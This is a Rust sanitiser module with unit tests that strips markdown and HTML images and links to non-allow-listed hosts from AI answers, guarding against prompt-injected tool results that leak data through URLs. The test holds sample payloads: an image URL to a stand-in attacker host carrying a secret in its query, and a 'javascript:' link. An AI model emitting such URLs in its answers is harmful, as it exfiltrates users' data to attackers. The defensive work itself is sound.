//! Output hygiene: markdown images and links (and HTML images) pointing outside an allow-list are
//! neutralised in answers, so a hostile tool result cannot make the UI fetch or link an attacker URL.

use std::sync::LazyLock;

use regex::Regex;

static IMAGE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?[^)]*\)").expect("regex"));
static LINK: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?[^)]*\)").expect("regex"));
static HTML_IMG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)<img\b[^>]*>").expect("regex"));

fn host(url: &str) -> Option<String> {
    let rest = url.split_once("://").map(|(_, r)| r)?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?;
    Some(host.to_ascii_lowercase())
}

fn allowed(url: &str, allow: &[String]) -> bool {
    match host(url) {
        Some(h) => allow
            .iter()
            .any(|a| h == *a || h.ends_with(&format!(".{a}"))),
        // Relative links stay inside the app.
        None => !url.contains(':') && !url.starts_with("//"),
    }
}

/// Neutralise images and links to hosts outside `allow`.
pub fn neutralise(text: &str, allow: &[String]) -> String {
    let text = HTML_IMG.replace_all(text, "[image removed]");
    let text = IMAGE.replace_all(&text, |c: &regex::Captures| {
        if allowed(&c[2], allow) {
            c[0].to_string()
        } else {
            format!("[image removed: {}]", &c[1])
        }
    });
    let text = LINK.replace_all(&text, |c: &regex::Captures| {
        if allowed(&c[2], allow) {
            c[0].to_string()
        } else {
            format!("{} (link removed)", &c[1])
        }
    });
    text.into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn outside_hosts_are_neutralised() {
        let allow = vec!["acme.example".to_string()];
        let t = "see ![x](https://evil.example/p.png?d=secret) and [docs](https://docs.acme.example/a) and [click](http://evil.example) <img src=https://evil.example/x>";
        let out = neutralise(t, &allow);
        assert!(!out.contains("evil.example"), "{out}");
        assert!(out.contains("[docs](https://docs.acme.example/a)"));
        assert!(out.contains("[image removed: x]") && out.contains("click (link removed)"));
        assert_eq!(neutralise("[rel](/invoices/1)", &[]), "[rel](/invoices/1)");
        assert_eq!(
            neutralise("[js](javascript:alert(1))", &[]),
            "js (link removed))"
        );
    }
}
